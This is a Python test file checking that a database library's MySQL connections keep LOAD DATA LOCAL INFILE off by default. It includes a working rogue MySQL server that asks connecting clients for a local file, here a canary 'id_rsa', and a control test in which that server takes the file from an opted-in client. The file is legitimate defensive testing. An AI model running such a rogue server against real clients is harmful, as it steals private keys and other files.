"""LOAD DATA LOCAL INFILE is off by default: a rogue server asking a frota connection for a
client file gets nothing, and a real server refuses the statement."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from pathlib import Path

import pymysql
import pytest
import sqlalchemy as sa

from frota.db.engine import create_engine

CAPS = 0x0001 | 0x0004 | 0x0008 | 0x0080 | 0x0200 | 0x2000 | 0x8000 | 0x80000
OK = b"\x00\x00\x00" + struct.pack("<HH", 0, 0)


def _packet(sock: socket.socket, seq: int, payload: bytes) -> None:
    sock.sendall(struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload)


def _read(sock: socket.socket) -> tuple[int, bytes] | None:
    head = b""
    while len(head) < 4:
        chunk = sock.recv(4 - len(head))
        if not chunk:
            return None
        head += chunk
    size = int.from_bytes(head[:3], "little")
    body = b""
    while len(body) < size:
        chunk = sock.recv(size - len(body))
        if not chunk:
            return None
        body += chunk
    return head[3], body


class RogueServer:
    """Speaks just enough MySQL protocol to answer every query with 'send me <path>'."""

    def __init__(self, wanted: str) -> None:
        self.wanted = wanted.encode()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.asked = 0
        self.received = bytearray()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._session, args=(conn,), daemon=True).start()

    def _session(self, conn: socket.socket) -> None:
        conn.settimeout(5)
        salt = b"abcdefgh" + b"ijklmnopqrst"
        greeting = (
            b"\x0a5.7.99-rogue\x00" + struct.pack("<I", 7) + salt[:8] + b"\x00"
            + struct.pack("<H", CAPS & 0xFFFF) + b"\x21" + struct.pack("<H", 0)
            + struct.pack("<H", CAPS >> 16) + bytes([21]) + b"\x00" * 10 + salt[8:] + b"\x00"
            + b"mysql_native_password\x00"
        )  # fmt: skip
        try:
            _packet(conn, 0, greeting)
            _read(conn)  # the client's handshake response
            _packet(conn, 2, OK)
            while (got := _read(conn)) is not None:
                seq, body = got
                if body[:1] == b"\x01":  # COM_QUIT
                    return
                if body[:1] != b"\x03" or body[1:10].upper() == b"SET NAMES":  # just say OK
                    _packet(conn, seq + 1, OK)
                    continue
                self.asked += 1
                _packet(conn, seq + 1, b"\xfb" + self.wanted)  # LOCAL INFILE request
                while (part := _read(conn)) is not None and part[1]:
                    self.received += part[1]
                    seq = part[0]
                if part is None:
                    return
                _packet(conn, part[0] + 1, OK)
        except OSError:
            return
        finally:
            conn.close()

    def close(self) -> None:
        self.listener.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "id_rsa"
    path.write_text("CANARY-PRIVATE-KEY-do-not-send\n")
    return path


@pytest.fixture
def rogue(secret_file: Path) -> Iterator[RogueServer]:
    server = RogueServer(str(secret_file))
    yield server
    server.close()


def test_rogue_server_gets_no_file_from_a_default_connection(rogue: RogueServer) -> None:
    engine = create_engine(f"mysql+pymysql://frota@127.0.0.1:{rogue.port}/x")
    try:
        with pytest.raises(Exception), engine.connect() as conn:  # noqa: B017
            conn.exec_driver_sql("SELECT 1")
    finally:
        engine.dispose()
    assert rogue.asked >= 1  # the server did ask …
    assert b"CANARY" not in rogue.received  # … and got nothing


def test_the_rogue_server_does_work_against_an_opted_in_client(rogue: RogueServer) -> None:
    """Control: the same server does steal the file from a client with local_infile on."""
    conn = pymysql.connect(host="127.0.0.1", port=rogue.port, user="x", local_infile=True)
    try:
        with conn.cursor() as cur:
            cur.execute("SELECT 1")
    finally:
        conn.close()
    assert b"CANARY-PRIVATE-KEY" in rogue.received


@pytest.mark.mysql
def test_real_server_refuses_load_data_local(mysql_url: str, secret_file: Path) -> None:
    engine = create_engine(mysql_url)
    try:
        with engine.begin() as conn:
            conn.exec_driver_sql("CREATE TABLE t (a TEXT)")
        with pytest.raises(sa.exc.DBAPIError), engine.begin() as conn:
            conn.exec_driver_sql(f"LOAD DATA LOCAL INFILE '{secret_file}' INTO TABLE t")
        with engine.connect() as conn:
            assert conn.exec_driver_sql("SELECT COUNT(*) FROM t").scalar() == 0
    finally:
        engine.dispose()
